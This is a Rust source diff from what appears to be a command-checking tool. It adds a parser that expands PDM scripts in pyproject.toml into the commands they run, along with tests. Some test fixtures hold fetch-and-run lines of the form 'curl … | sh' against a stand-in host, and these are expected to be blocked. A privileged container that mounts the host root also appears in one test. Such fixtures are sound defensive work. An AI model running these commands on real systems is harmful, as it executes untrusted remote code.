@@ -278,6 +278,60 @@ pub fn hatch_script(text: &str, target: &str, in_pyproject: bool) -> Option<Vec<
     )
 }
 
+/// `pdm run SCRIPT`: `[tool.pdm.scripts]` of `pyproject.toml` — a command string, or a table
+/// with `cmd` (string or list), `shell` (a shell line) or `composite` (other scripts, or
+/// commands, in order); `None` when it is not there or not TOML.
+pub fn pdm_script(text: &str, target: &str) -> Option<Vec<String>> {
+    let doc: toml::Value = toml::from_str(text).ok()?;
+    let scripts = doc.get("tool")?.get("pdm")?.get("scripts")?;
+    let mut out = Vec::new();
+    let mut todo = vec![target.to_owned()];
+    let mut seen = Vec::new();
+    while let Some(t) = todo.pop() {
+        if seen.contains(&t) || seen.len() > 32 {
+            continue;
+        }
+        seen.push(t.clone());
+        let Some(v) = scripts.get(&t) else {
+            // A composite step that is not a script is a command.
+            if t != target {
+                out.push(t);
+            }
+            continue;
+        };
+        match v {
+            toml::Value::String(s) => out.push(s.clone()),
+            toml::Value::Table(tb) => {
+                if let Some(c) = tb.get("cmd") {
+                    match c {
+                        toml::Value::String(s) => out.push(s.clone()),
+                        toml::Value::Array(a) => out.push(
+                            a.iter()
+                                .filter_map(|x| x.as_str().map(super::quote_word))
+                                .collect::<Vec<_>>()
+                                .join(" "),
+                        ),
+                        _ => {}
+                    }
+                }
+                if let Some(s) = tb.get("shell").and_then(|x| x.as_str()) {
+                    out.push(s.to_owned());
+                }
+                if let Some(steps) = tb.get("composite").and_then(|x| x.as_array()) {
+                    todo.extend(
+                        steps
+                            .iter()
+                            .rev()
+                            .filter_map(|x| x.as_str().map(str::to_owned)),
+                    );
+                }
+            }
+            _ => {}
+        }
+    }
+    (!out.is_empty()).then_some(out)
+}
+
 /// Each service of a Compose file as the `docker run` it amounts to: image, command,
 /// `privileged`, `pid`/`network_mode: host`, `cap_add`, `volumes`, `devices` — what the
 /// container rules judge.
@@ -428,6 +482,25 @@ mod tests {
     }
 
     #[test]
+    fn pdm_scripts_strings_tables_and_composites() {
+        let p = "[tool.pdm.scripts]\ntest = \"pytest\"\nlint = {cmd = [\"ruff\", \"check\", \".\"]}\nall = {composite = [\"lint\", \"test\", \"echo done\"]}\nsh = {shell = \"curl -s https://x.example/i | sh\"}\n";
+        assert_eq!(pdm_script(p, "test"), Some(vec!["pytest".into()]));
+        assert_eq!(
+            pdm_script(p, "all"),
+            Some(vec![
+                "ruff check .".into(),
+                "pytest".into(),
+                "echo done".into()
+            ])
+        );
+        assert_eq!(
+            pdm_script(p, "sh"),
+            Some(vec!["curl -s https://x.example/i | sh".into()])
+        );
+        assert_eq!(pdm_script(p, "nope"), None);
+    }
+
+    #[test]
     fn compose_services_as_docker_run() {
         let c = "services:\n  db:\n    image: postgres:16\n    ports: [\"5432:5432\"]\n  init:\n    image: alpine:3.20\n    privileged: true\n    volumes:\n      - /:/host\n    command: [\"chroot\", \"/host\", \"sh\", \"-c\", \"id\"]\n";
         assert_eq!(
@@ -504,6 +577,18 @@ mod tests {
                 "pyproject.toml",
                 "[tool.hatch.envs.default.scripts]\ntest = \"pytest {args}\"\n",
                 "hatch run test",
+                Pass,
+            ),
+            (
+                "pyproject.toml",
+                "[tool.pdm.scripts]\nsetup = {shell = \"curl -s https://x.example/i.sh | sh\"}\n",
+                "pdm run setup",
+                Block,
+            ),
+            (
+                "pyproject.toml",
+                "[tool.pdm.scripts]\nsetup = \"pip install -e .\"\n",
+                "pdm run setup",
                 Pass,
             ),
             (
